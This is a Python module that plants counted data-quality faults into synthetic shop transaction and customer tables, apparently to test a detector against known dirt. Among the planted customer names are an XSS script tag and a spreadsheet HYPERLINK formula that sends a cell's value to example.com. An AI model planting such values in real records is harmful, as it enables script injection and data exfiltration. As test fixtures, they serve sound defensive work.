"""Dirt for the synthetic shop: known kinds, exact amounts, no cell twice, so that what was found can be held against what was planted."""

from __future__ import annotations

import itertools
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np
from numpy.typing import NDArray

from segmentry.sources.shop_tables import LAST, Columns, Whole, iso

Rows = NDArray[np.intp]
Added = tuple[Columns, Whole, Whole]
ZERO_WIDTH = "\u200b"
IMPOSSIBLE_BIRTHS = ("1893-05-14", "1899-07-20", "1900-11-09")
FILLERS = ("666666", "999999")
NONSENSE = ("Yes", "Absurd")
SCRIPT = "Cleo <script>alert(1)</script> Mockwell"
FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Fauxley")'
POSTAGE = "POST"
MOST_RETURNED = 0.25


@dataclass(frozen=True, slots=True)
class Dirt:
    """One kind of planted dirt.

    Parameters
    ----------
    rule : str
        Stable lower-case name, such as ``exact_duplicates``.
    table, column : str
        Where; the column is empty when it is about rows.
    count : int
        Rows, cells or columns: exactly as many were planted.
    """

    rule: str
    table: str
    column: str
    count: int


def soil_transactions(
    columns: Columns, order: Whole, sent_back: NDArray[np.float64], rng: np.random.Generator
) -> tuple[Columns, tuple[Dirt, ...]]:
    """Return the lines with their dirt, in the order of their days.

    Parameters
    ----------
    columns : Columns
        Clean lines; not changed.
    order : int array, shape (n,)
        Each line's order.
    sent_back : float array, shape (n,)
        Chance of each line to be sent back, at most `MOST_RETURNED`.

    Returns
    -------
    Columns
        More lines than came in: duplicates, returns and postage are added.
    tuple of Dirt
    """
    day = columns["order_date"].astype("datetime64[D]").astype(np.int64)
    pick = _picker(len(order), rng)
    table = {**columns, **{name: columns[name].copy() for name in ("customer_id", "order_date", "unit_price")}}
    found: list[Dirt] = []
    for rule, column, share, change in (
        ("missing_customer", "customer_id", 0.008, lambda text, _: np.full(len(text), "", dtype=object)),
        ("padded_ids", "customer_id", 0.002, lambda text, _: text + np.resize(np.array(["  ", "  ", ZERO_WIDTH], dtype=object), len(text))),
        ("unparsable_dates", "order_date", 0.001, lambda text, _: np.full(len(text), "2025-13-45", dtype=object)),
        ("future_dates", "order_date", 0.0002, lambda _, when: iso(LAST + 550 + when % 180)),
        ("not_finite", "unit_price", 0.0003, lambda text, _: np.full(len(text), "inf", dtype=object)),
        ("absurd_amounts", "unit_price", 0.0001, lambda text, _: np.full(len(text), "1e15", dtype=object)),
    ):
        rows = pick(share)
        table[column][rows] = change(table[column][rows], day[rows])
        found.append(Dirt(rule, "transactions", column, len(rows)))
    twice, returned, posted = pick(0.005), pick(MOST_RETURNED), pick(0.006)
    returned = returned[rng.random(len(returned)) < sent_back[returned] / MOST_RETURNED]
    # Postage once an order: twice would be a duplicate that nobody planted.
    posted = posted[np.unique(order[posted], return_index=True)[1]]
    found += [
        Dirt("exact_duplicates", "transactions", "", len(twice)),
        Dirt("returns", "transactions", "quantity", len(returned)),
        Dirt("postage", "transactions", "product_id", len(posted)),
    ]
    added: list[Added] = [
        (table, day, order),
        ({name: column[twice] for name, column in columns.items()}, day[twice], order[twice]),
        _returns(columns, returned, day, order, rng),
        (_postage(columns, posted), day[posted], order[posted]),
    ]
    ranked = np.lexsort((np.concatenate([part[2] for part in added]), np.concatenate([part[1] for part in added])))
    return {name: np.concatenate([part[0][name] for part in added])[ranked] for name in columns}, tuple(found)


def soil_customers(columns: Columns, rng: np.random.Generator) -> tuple[Columns, tuple[Dirt, ...]]:
    """Return the customers with their dirt.

    Parameters
    ----------
    columns : Columns
        Clean customers; not changed.

    Returns
    -------
    Columns
        As many rows, one more column: a constant one.
    tuple of Dirt
    """
    table = {name: column.copy() for name, column in columns.items()}
    count = len(columns["customer_id"])
    pick = _picker(count, rng)
    originals, copies = pick(0.002), pick(0.002)
    for values in (values for name, values in table.items() if name != "customer_id"):
        values[copies] = values[originals]
    found = [Dirt("duplicates_apart_from_id", "customers", "", len(copies))]
    for rule, column, share, texts in (
        ("impossible_births", "birth_date", 0.002, IMPOSSIBLE_BIRTHS),
        ("sentinel_incomes", "income", 0.003, FILLERS),
        ("rare_categories", "gender", 0.0006, NONSENSE),
        ("script_names", "name", 0.001, (SCRIPT,)),
        ("formula_names", "name", 0.001, (FORMULA,)),
    ):
        rows = pick(share)
        table[column][rows] = np.resize(np.array(texts, dtype=object), len(rows))
        found.append(Dirt(rule, "customers", column, len(rows)))
    found.append(Dirt("missing_values", "customers", "income", int(np.count_nonzero(table["income"] == ""))))
    found.append(Dirt("constant_columns", "customers", "scheme", 1))
    return {**table, "scheme": np.full(count, "standard", dtype=object)}, tuple(found)


def _picker(count: int, rng: np.random.Generator) -> Callable[[float], Rows]:
    """Return a function that picks a share of the rows, two at least, and never a row twice."""
    left = iter(rng.permutation(count).tolist())

    def pick(share: float) -> Rows:
        return np.sort(np.fromiter(itertools.islice(left, max(2, round(share * count))), dtype=np.intp))

    return pick


def _returns(columns: Columns, rows: Rows, day: Whole, order: Whole, rng: np.random.Generator) -> Added:
    """Return lines that take back whole lines some days later, under an order id of their own."""
    back = np.minimum(day[rows] + rng.integers(2, 21, len(rows)), LAST)
    lines = {name: column[rows] for name, column in columns.items()}
    lines["order_id"] = "R" + lines["order_id"]
    lines["order_date"] = iso(back)
    lines["quantity"] = "-" + lines["quantity"]
    lines["discount"] = np.full(len(rows), "0.00", dtype=object)
    return lines, back, order[rows]


def _postage(columns: Columns, rows: Rows) -> Columns:
    lines = {name: column[rows] for name, column in columns.items()}
    for name, text in (("product_id", POSTAGE), ("quantity", "1"), ("unit_price", "4.95"), ("discount", "0.00")):
        lines[name] = np.full(len(rows), text, dtype=object)
    return lines
